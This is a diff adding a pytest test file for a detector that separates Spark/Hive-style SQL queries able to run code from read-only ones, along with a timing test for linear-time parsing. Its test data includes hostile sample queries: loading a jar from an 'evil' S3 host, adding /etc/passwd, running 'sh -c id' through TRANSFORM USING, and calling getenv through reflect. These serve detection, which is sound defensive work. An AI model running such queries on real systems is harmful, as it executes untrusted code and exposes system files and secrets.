@@ -1,0 +1,57 @@
+"""Queries that run code are told from those that only read."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from horae.core.queries import calls_code
+
+CODE = {
+    "SELECT reflect('java.lang.System', 'getenv', 'X')": "reflect",
+    "SELECT `ReFlect` ('a', 'b')": "reflect",
+    "SELECT java_method(\n'a', 'b')": "java_method",
+    "SELECT /* ' */ try_reflect /* ( */ ('a', 'b')": "try_reflect",
+    "SELECT IDENTIFIER('ref' || 'lect')('a', 'b')": "identifier",
+    "ADD JAR 's3://evil/x.jar'": "add jar",
+    "-- harmless\n  add ARCHIVES /etc": "add archives",
+    "SELECT 1; ADD FILE '/etc/passwd'": "add file",
+    "CREATE OR REPLACE TEMPORARY FUNCTION f AS 'a.B' USING JAR 'x'": "create function",
+    "EXECUTE IMMEDIATE 'ADD JAR x'": "execute immediate",
+    "SELECT TRANSFORM (a) USING 'sh -c id' AS (b) FROM t": "transform … using",
+    "FROM t MAP a USING 'cat' AS b": "transform … using",
+}
+PLAIN = [
+    "SELECT 'reflect(1)', \"java_method(2)\" FROM t -- ADD JAR x",
+    "SELECT a.reflect, jar FROM add JOIN b USING (id)",
+    "SELECT transform(array(1), x -> x + 1) FROM t JOIN u ON t.id = u.id",
+    "SELECT map(1, 2), reduce(array(1), 0, (a, x) -> a + x)",
+    "SELECT 'it''s \\' reflect('",
+    "INSERT INTO t SELECT * FROM u",
+]
+
+
+@pytest.mark.parametrize("query", CODE)
+def test_what_runs_code_is_named(query: str) -> None:
+    assert calls_code(query) == CODE[query]
+
+
+@pytest.mark.parametrize("query", PLAIN)
+def test_what_only_reads_is_let_through(query: str) -> None:
+    assert calls_code(query) is None
+
+
+@pytest.mark.parametrize("unit", ["'", "`", "/*", "\\'", "reflect ", "a ", "--", "* /", '"\\'])
+def test_reading_takes_linear_time(unit: str) -> None:
+    def seconds(size: int) -> float:
+        query = unit * (size // len(unit))
+        return min(_timed(query) for _ in range(3))
+
+    assert seconds(256_000) < 40 * seconds(32_000) + 0.05  # eight times as much
+
+
+def _timed(query: str) -> float:
+    began = time.perf_counter()
+    calls_code(query)
+    return time.perf_counter() - began
